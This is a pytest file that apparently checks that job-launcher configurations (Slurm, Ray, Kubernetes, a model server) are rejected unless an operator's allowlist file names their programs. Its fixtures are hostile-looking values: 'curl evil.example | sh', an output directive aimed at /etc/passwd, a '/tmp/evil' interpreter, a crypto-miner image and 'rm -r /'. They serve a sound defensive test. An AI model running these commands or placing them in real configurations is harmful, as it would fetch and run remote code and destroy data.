"""What is run is the operator's to say: a run's configuration names no program that no file allows."""

from pathlib import Path

import dagster as dg
import pytest

from assets.defs.resources import VlmServer
from assets.lib.launch.kubernetes import KubernetesLauncher
from assets.lib.launch.ray import RayLauncher
from assets.lib.launch.slurm import SlurmLauncher
from assets.lib.programs import FILE, check_programs
from core.errors import UserError

NAMED = [
    VlmServer(model="m", python="/tmp/evil"),
    SlurmLauncher(setup=["curl evil.example | sh"]),
    SlurmLauncher(directives=["--output=/etc/passwd"]),
    SlurmLauncher(python="/tmp/evil"),
    RayLauncher(python="/tmp/evil"),
    KubernetesLauncher(image="evil.example/miner", claim="work"),
]


@pytest.mark.parametrize("config", NAMED)
def test_none_without_a_file(config: VlmServer | SlurmLauncher, tmp_path: Path) -> None:
    with pytest.raises(UserError, match=FILE):
        check_programs(config, {})
    other_file = tmp_path / "programs.toml"
    other_file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
    with pytest.raises(UserError, match="is not allowed in a run's configuration"):
        check_programs(config, {FILE: str(other_file)})


def test_what_the_file_lists(tmp_path: Path) -> None:
    file = tmp_path / "programs.toml"
    file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
    launcher = SlurmLauncher(setup=["module load cuda"], python="/opt/python")
    check_programs(launcher, {FILE: str(file)})
    with pytest.raises(UserError, match="'rm -r /'"):
        check_programs(
            launcher.model_copy(update={"setup": ["module load cuda", "rm -r /"]}),
            {FILE: str(file)},
        )
    file.write_text("setup = 7")
    with pytest.raises(UserError, match="other things"):
        check_programs(launcher, {FILE: str(file)})
    with pytest.raises(UserError, match="cannot be read"):
        check_programs(launcher, {FILE: str(tmp_path / "none.toml")})


def test_the_servers_of_a_run_are_not_started(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(FILE, raising=False)
    with pytest.raises(dg.Failure, match="not allowed"):
        VlmServer(model="m", python="/tmp/evil").endpoints()
